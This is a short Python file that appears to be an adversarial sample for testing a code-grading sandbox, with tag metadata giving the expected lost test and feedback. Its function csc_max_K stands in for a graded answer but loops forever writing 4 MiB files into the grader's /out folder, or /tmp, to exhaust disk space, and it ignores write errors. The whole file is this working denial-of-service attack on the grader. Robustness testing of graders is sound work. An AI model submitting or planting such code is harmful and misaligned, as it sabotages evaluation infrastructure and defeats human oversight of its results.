"""Fills the grader's output folder from the last graded function until it is stopped; where
the sandbox has no output folder of the grader's, its own capped /tmp instead."""
# effdl-attack: build=cell tag=answer expect_lost=a4.max_k feedback_contains="did not return within its time budget"

import os

FOLDER = "/out" if os.path.isdir("/out") else "/tmp"  # the output folder, if any


def csc_max_K(M, N, final_pointer=True):
    n = 0
    while True:
        n += 1
        try:
            with open(f"{FOLDER}/flood-{os.getpid()}-{n}.bin", "wb") as fh:
                fh.write(b"\1" * 4 * 1024**2)
        except OSError:
            pass
